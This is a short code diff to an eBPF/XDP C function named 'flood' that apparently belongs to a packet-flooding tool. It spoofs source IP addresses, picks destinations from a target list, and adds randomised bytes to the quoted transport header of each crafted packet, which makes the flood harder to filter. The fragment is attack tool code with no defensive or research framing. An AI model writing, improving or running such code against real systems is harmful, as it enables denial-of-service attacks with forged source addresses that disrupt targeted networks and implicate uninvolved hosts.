@@ -67,6 +67,10 @@ int flood(struct xdp_md *ctx)
 		return XDP_DROP;
 	f->ip.saddr = source;
 	f->message.quoted.daddr = pick(&job.targets);
+	if (job.random_quotes) {
+		*(__u32 *)f->message.transport = bpf_get_prandom_u32();
+		*(__u32 *)(f->message.transport + 4) = bpf_get_prandom_u32();
+	}
 	f->ip.check = 0;
 	f->ip.check = fold(bpf_csum_diff(0, 0, (void *)&f->ip, sizeof(f->ip), 0));
 	f->message.checksum = 0;
